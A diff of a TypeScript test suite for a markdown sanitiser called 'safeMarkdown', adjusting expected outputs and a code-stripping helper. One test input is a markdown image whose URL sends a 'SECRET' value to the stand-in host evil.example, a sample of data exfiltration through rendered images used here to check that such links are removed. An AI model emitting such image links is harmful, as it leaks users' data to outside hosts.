@@ -16,7 +16,7 @@ describe("safeMarkdown", () => {
       "Reads *both*, `a` and **b**:\n\n1. one\n- two",
       "Reads *both*, `a` and **b**:\n\n1. one\n- two",
     ],
-    ["an image", "![x](https://evil.example/?d=SECRET)", "\\!x (link removed)"],
+    ["an image", "![x](https://evil.example/?d=SECRET)", "!x (link removed)"],
     [
       "an image by reference",
       "![x][y]\n\n[y]: https://evil.example",
@@ -192,7 +192,7 @@ describe("safeMarkdown", () => {
 function withoutCode(markdown: string): string {
   const blocks = markdown.replace(/^(`{3,})[^`\n]*\n(?:[\s\S]*?\n)??\1$/gm, "");
   return blocks.replace(/\\[\\`*_{}[\]<>~|!$]|(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, (all) =>
-    all.startsWith("\\") ? all : " ",
+    all.startsWith("\\") ? "·" : " ",
   );
 }
 
